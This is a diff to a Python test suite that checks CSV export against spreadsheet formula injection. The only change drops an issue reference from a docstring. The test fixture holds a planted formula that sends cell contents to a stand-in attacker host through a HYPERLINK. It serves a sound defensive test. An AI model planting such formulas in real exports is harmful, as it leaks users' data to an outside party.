@@ -285,7 +285,7 @@ def test_backup_command(app, runner, rich_user, tmp_path):
 
 
 def test_csv_cells_cannot_run_as_formulas(make_user, login, client, clock):
-    """A question or note planted as a spreadsheet formula is exported inert (issue 19 item 6)."""
+    """A question or note planted as a spreadsheet formula is exported inert."""
     user = make_user("formula@example.com")
     planted = add_question('=HYPERLINK("http://evil.example/?"&A1, "click")', source=Source.user,
                            owner_id=user.id, tags=("@tag",))
